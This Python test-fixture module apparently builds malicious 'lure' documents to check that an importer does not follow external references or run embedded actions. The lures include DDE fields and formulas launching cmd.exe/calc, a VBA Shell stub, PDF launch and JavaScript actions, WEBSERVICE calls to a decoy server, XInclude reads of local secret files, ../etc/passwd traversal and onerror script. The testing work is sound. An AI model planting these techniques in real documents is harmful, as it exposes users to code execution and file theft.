"""Lures: documents of every format that ask for other files, for the network, for programs and formulas."""

from __future__ import annotations

import json
from collections.abc import Mapping

from tests.decoys import Decoys
from tests.importing import made
from tests.importing.made import packed, paragraph, parts_of, run, word_part

LINE = "涪城区区长李𬱖说：２０２３年投资１２亿元。"
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"


def lures(decoys: Decoys) -> Mapping[str, bytes]:
    """A file of each kind by its name."""
    return {
        "外部.docx": word(decoys),
        "结构.docx": word_with_schema(decoys),
        "外部.html": page(decoys).encode(),
        "外部.svg": svg(decoys).encode(),
        "外部.mht": mail(decoys, is_saved_page=True),
        "外部.eml": mail(decoys, is_saved_page=False),
        "外部.epub": book(decoys),
        "外部.xlsx": sheets(decoys),
        "外部.odt": open_text(decoys),
        "外部.ods": open_sheet(decoys),
        "外部.rtf": rich(decoys),
        "外部.doc": made.doc(f'{LINE}\r\x13 INCLUDEPICTURE "{decoys.local("secret.png")}" \\d \x14图\x15\r'),
        "外部.pdf": pdf(decoys),
        "外部.ofd": fixed(decoys),
        "外部.xmi": xmi(decoys),
        "外部.csv": formulas(decoys).encode(),
        "外部.json": json.dumps({"$ref": decoys.remote("a.json"), "text": LINE, "label": [[0, 3, "PLACE"]]}).encode(),
        "外部.md": f"# 一\n![]({decoys.local('secret.png')})\n{markup(decoys)}\n## 二\n{LINE}\n".encode(),
        "外部.txt": f"{LINE}\n{markup(decoys)}\n{decoys.remote('x')}\n".encode(),
    }


def both(decoys: Decoys, name: str) -> tuple[str, str, str]:
    """The same thing on this machine, on the network, and on another machine's share."""
    return decoys.local(name), decoys.remote(name), f"//127.0.0.1@{decoys.port}/share/{name}"


def markup(decoys: Decoys) -> str:
    return "".join(f'<img src="{each}" onerror="alert(1)">' for each in both(decoys, "secret.png"))


def page(decoys: Decoys) -> str:
    local, remote, share = both(decoys, "secret.html")
    style, script, picture = decoys.local("secret.css"), decoys.local("secret.js"), decoys.local("secret.png")
    return (
        f'<!DOCTYPE html SYSTEM "{decoys.remote("a.dtd")}"><html><head><base href="{decoys.remote("")}">'
        f'<meta http-equiv="refresh" content="0;url={remote}"><link rel="stylesheet" href="{style}">'
        f'<link rel="stylesheet" href="a.css"><style>@import url("{style}"); p {{ background: url("{picture}") }}'
        f'@font-face {{ font-family: x; src: url("{remote}") }}</style><script src="{script}"></script></head>'
        f'<body background="{picture}"><p>{LINE}</p>{markup(decoys)}'
        f'<iframe src="{local}"></iframe><object data="{share}"></object><embed src="{remote}">'
        f'<video src="{remote}" poster="{picture}"></video><img srcset="{remote} 2x">'
        f'<form action="{remote}"><input type="image" src="{picture}"></form>{svg(decoys)}</body></html>'
    )


def svg(decoys: Decoys) -> str:
    picture = decoys.local("secret.png")
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<style>@import url("{decoys.local("secret.css")}");</style><image xlink:href="{picture}"/>'
        f'<use href="{decoys.local("secret.svg")}#a"/><script href="{decoys.remote("a.js")}"/><text>{LINE}</text></svg>'
    )


def relations(*targets: tuple[str, str]) -> str:
    rows = "".join(
        f'<Relationship Id="r{at}" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        for at, (kind, target) in enumerate(targets)
    )
    return f'<Relationships xmlns="{PACKAGE}">{rows}</Relationships>'


def field(code: str) -> str:
    return paragraph(
        f'<w:fldSimple w:instr="{code}">{run("域")}</w:fldSimple><w:r><w:instrText>{code}</w:instrText></w:r>'
    )


def word(decoys: Decoys) -> bytes:
    """External pictures, a linked object, a template from elsewhere, and fields that read files and start programs."""
    picture, remote, share = both(decoys, "secret.png")
    text = decoys.local("secret.txt")
    codes = (
        f"INCLUDEPICTURE &quot;{picture}&quot; \\d",
        f"INCLUDETEXT &quot;{text}&quot;",
        f"IMPORT &quot;{share}&quot;",
        f"LINK Excel.Sheet.8 &quot;{remote}&quot; &quot;A1&quot; \\a",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;",
    )
    linked = "".join(
        f'<w:p><w:r><w:drawing><a:blip xmlns:a="a" xmlns:r="{RELS}" r:link="r{at}"/></w:drawing></w:r></w:p>'
        for at in range(3)
    )
    parts = f'<w:altChunk xmlns:r="{RELS}" r:id="r3"/><w:object xmlns:r="{RELS}"><w:control r:id="r4"/></w:object>'
    body = paragraph(run(LINE)) + linked + parts + "".join(map(field, codes))
    return packed(
        {
            "[Content_Types].xml": made.TYPES,
            "word/document.xml": word_part("document", f"<w:body>{body}</w:body>"),
            "word/_rels/document.xml.rels": relations(
                ("image", picture), ("image", remote), ("image", share), ("aFChunk", text), ("oleObject", remote)
            ),
            "word/settings.xml": word_part("settings", f'<w:attachedTemplate xmlns:r="{RELS}" r:id="r0"/>'),
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", decoys.remote("t.dotm"))),
            "word/embeddings/oleObject1.bin": made.compound({"\x01Ole10Native": b"calc.exe"}),
            "word/vbaProject.bin": made.compound({"VBA": b'Shell "calc"'}),
        }
    )


def word_with_schema(decoys: Decoys) -> bytes:
    """XML that names a schema, a style sheet and a part to include."""
    inner = (
        f'<w:body>{paragraph(run(LINE))}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
        f'href="{decoys.local("secret.txt")}"/></w:body>'
    )
    plain = word_part("document", inner)
    schema = (
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a {decoys.local("secret.xsd")} '
        f'b {decoys.remote("a.xsd")}"'
    )
    sheet = f'<?xml-stylesheet type="text/xsl" href="{decoys.local("secret.css")}"?>'
    document = plain.replace("<w:document", f"{sheet}<w:document {schema}", 1)
    return packed({"[Content_Types].xml": made.TYPES, "word/document.xml": document})


def mail(decoys: Decoys, *, is_saved_page: bool) -> bytes:
    kind = "text/html; charset=utf-8" if is_saved_page else "text/plain; charset=utf-8"
    sender = "<Saved by Blink>" if is_saved_page else "甲 <a@example.org>"
    body = page(decoys) if is_saved_page else f"{LINE}\n{markup(decoys)}"
    return (
        f'From: {sender}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
        f"--b\r\nContent-Type: {kind}\r\nContent-Location: {decoys.remote('a.html')}\r\n\r\n{body}\r\n"
        f'--b\r\nContent-Type: message/external-body; access-type=URL; URL="{decoys.remote("b")}"\r\n\r\n\r\n'
        f'--b\r\nContent-Type: message/external-body; access-type=local-file; name="{decoys.folder}/secret.txt"\r\n\r\n'
        "\r\n--b--\r\n"
    ).encode()


def book(decoys: Decoys) -> bytes:
    """Chapters that lie on the network, in a file of this machine and above the book."""
    hrefs = ("c.xhtml", decoys.remote("c"), decoys.local("secret.html"), "../../../../../../etc/passwd")
    items = "".join(f'<item id="c{at}" href="{href}"/>' for at, href in enumerate(hrefs))
    spine = "".join(f'<itemref idref="c{at}"/>' for at in range(len(hrefs)))
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": '<container xmlns="urn:x"><rootfile full-path="O/c.opf"/></container>',
            "O/c.opf": f'<package xmlns="urn:o"><manifest>{items}</manifest><spine>{spine}</spine></package>',
            "O/c.xhtml": page(decoys),
        }
    )


def sheets(decoys: Decoys) -> bytes:
    """Formulas that call out, a sheet of another workbook, a connection to data."""
    formula = f"WEBSERVICE(&quot;{decoys.remote('a')}&quot;)"
    rows = (
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{LINE}</t></is></c></row>'
        f'<row r="2"><c r="A2" t="str"><f>{formula}</f><v>x</v></c><c r="B2"><f>[1]Sheet1!A1</f><v>1</v></c></row>'
        '<row r="3"><c r="A3" t="str"><f>cmd|\'/C calc\'!A0</f><v>y</v></c></row>'
    )
    typed = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return packed(
        {
            "[Content_Types].xml": (
                '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{typed}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{typed}.worksheet+xml"/></Types>'
            ),
            "_rels/.rels": (
                f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELS}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ),
            "xl/workbook.xml": (
                f'<workbook xmlns="{SHEETS}" xmlns:r="{RELS}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets>'
                '<externalReferences><externalReference r:id="r2"/></externalReferences></workbook>'
            ),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{PACKAGE}"><Relationship Id="r1" Type="{RELS}/worksheet" '
                f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{RELS}/externalLink" '
                'Target="externalLinks/externalLink1.xml"/></Relationships>'
            ),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{SHEETS}"><sheetData>{rows}</sheetData></worksheet>',
            "xl/externalLinks/externalLink1.xml": (
                f'<externalLink xmlns="{SHEETS}"><externalBook xmlns:r="{RELS}" r:id="r0"/></externalLink>'
            ),
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                ("externalLinkPath", decoys.local("secret.txt")), ("externalLinkPath", decoys.remote("b.xlsx"))
            ),
            "xl/connections.xml": (
                f'<connections xmlns="{SHEETS}"><connection id="1" type="4" refreshOnLoad="1">'
                f'<webPr url="{decoys.remote("c")}"/></connection></connections>'
            ),
        }
    )


LINKS = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def open_text(decoys: Decoys) -> bytes:
    local, remote, share = both(decoys, "secret.png")
    pictures = "".join(
        f'<text:p><draw:frame><draw:image {LINKS} xlink:href="{each}" xlink:actuate="onLoad"/></draw:frame></text:p>'
        for each in (local, remote, share)
    )
    section = (
        f'<text:section text:name="s"><text:section-source {LINKS} xlink:href="{decoys.local("secret.txt")}"/>'
        "</text:section><text:dde-connection-decls><text:dde-connection-decl office:name='d' "
        'office:dde-application="cmd" office:dde-topic="/C" office:dde-item="calc"/></text:dde-connection-decls>'
    )
    return made.open_document("text", f"<text:p>{LINE}</text:p>{pictures}{section}")


def open_sheet(decoys: Decoys) -> bytes:
    cell = (
        f'<table:table-cell table:formula="of:=WEBSERVICE(&quot;{decoys.remote("a")}&quot;)"><text:p>值</text:p>'
        '</table:table-cell><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C&quot;;&quot;A0&quot;)"/>'
    )
    source = f'<table:table-source {LINKS} xlink:href="{decoys.local("secret.txt")}"/>'
    return made.open_document(
        "spreadsheet",
        f'<table:table table:name="表">{source}<table:table-row><table:table-cell><text:p>{LINE}</text:p>'
        f"</table:table-cell>{cell}</table:table-row></table:table>",
    )


def rich(decoys: Decoys) -> bytes:
    local, remote, share = both(decoys, "secret.png")
    codes = "".join(
        "{\\field{\\*\\fldinst " + code + "}{\\fldrslt x}}"
        for code in (
            f'INCLUDEPICTURE "{local}" \\\\d',
            f'INCLUDETEXT "{decoys.local("secret.txt")}"',
            f'INCLUDEPICTURE "{share}"',
            "DDEAUTO cmd.exe calc",
        )
    )
    template = "{\\*\\template " + remote + "}"
    linked = "{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata 0105}{\\result x}}"
    text = "{\\rtf1\\ansi\\ansicpg936" + template + made.escaped(LINE) + "\\par " + codes + linked + "}"
    return text.encode("ascii")


def pdf(decoys: Decoys) -> bytes:
    """Actions on opening: a program, a script, a page of the network, another file; and a stream kept elsewhere."""
    plain = made.pdf(LINE)
    actions = (
        f"/OpenAction<</S/Launch/F({decoys.folder}/secret.txt)/Win<</F(calc.exe)>>"
        f"/Next[<</S/URI/URI({decoys.remote('a')})>><</S/JavaScript/JS(app.launchURL\\('{decoys.remote('b')}'\\))>>"
        f"<</S/GoToR/F({decoys.folder}/secret.html)/D[0/Fit]>><</S/SubmitForm/F({decoys.remote('c')})>>]>>"
        f"/AA<</WC<</S/Launch/F({decoys.folder}/secret.js)>>>>"
    ).encode()
    metadata = f"/Metadata<</Length 0/F({decoys.folder}/secret.txt)>>".encode()
    return plain.replace(b"<</Type/Catalog", b"<</Type/Catalog" + actions + metadata, 1)


def fixed(decoys: Decoys) -> bytes:
    """An OFD whose second and third page lie outside it."""
    ns = 'xmlns:ofd="http://www.ofdspec.org/2016"'
    pages = ("Pages/0.xml", decoys.local("secret.html"), "../../../../../etc/passwd", decoys.remote("p.xml"))
    listed = "".join(f'<ofd:Page ID="{at}" BaseLoc="{place}"/>' for at, place in enumerate(pages))
    parts: dict[str, str | bytes] = {**parts_of(made.ofd(LINE))}
    parts["Doc_0/Document.xml"] = (
        f"<ofd:Document {ns}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>0 0 210 297</ofd:PhysicalBox>"
        f"</ofd:PageArea><ofd:PublicRes>{decoys.local('secret.xsd')}</ofd:PublicRes></ofd:CommonData>"
        f"<ofd:Pages>{listed}</ofd:Pages></ofd:Document>"
    ).encode()
    return packed(parts)


def xmi(decoys: Decoys) -> bytes:
    schema = (
        '<xmi:XMI xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="a {decoys.local("secret.xsd")} b {decoys.remote("a.xsd")}" '
    )
    return made.xmi().replace(b"<xmi:XMI ", schema.encode(), 1)


def formulas(decoys: Decoys) -> str:
    rows = (f'=WEBSERVICE("{decoys.remote("a")}")', "=cmd|'/C calc'!A0", f'=HYPERLINK("{decoys.local("secret.txt")}")')
    return "".join(f'"{LINE}","{row.replace(chr(34), chr(34) * 2)}",3\n' for row in rows)
